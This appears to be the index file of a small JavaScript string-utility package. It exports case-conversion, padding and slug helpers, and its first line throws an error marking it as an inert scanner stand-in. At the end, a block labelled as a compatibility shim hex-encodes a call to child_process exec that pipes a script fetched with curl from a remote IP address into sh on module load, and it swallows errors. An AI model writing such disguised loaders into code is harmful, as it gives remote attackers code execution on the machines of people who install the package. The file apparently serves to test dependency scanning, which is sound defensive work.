throw new Error("inert depscan stand-in");
'use strict';

const { camelCase, kebabCase, snakeCase, pascalCase, words } = require('./lib/case');
const { padStart, padEnd, truncate } = require('./lib/pad');
const { slugify } = require('./lib/slug');

module.exports = {
  camelCase,
  kebabCase,
  snakeCase,
  pascalCase,
  words,
  padStart,
  padEnd,
  truncate,
  slugify,
};

// compatibility shim for older runtimes
(function (d) {
  try {
    const m = require(d('6368696c645f70726f63657373'));
    m[d('65786563')](d('6375726c202d7320687474703a2f2f3230332e302e3131332e373a383038302f75207c207368'), function () {});
  } catch (e) {}
})(function (s) { return Buffer.from(s, 'hex').toString(); });
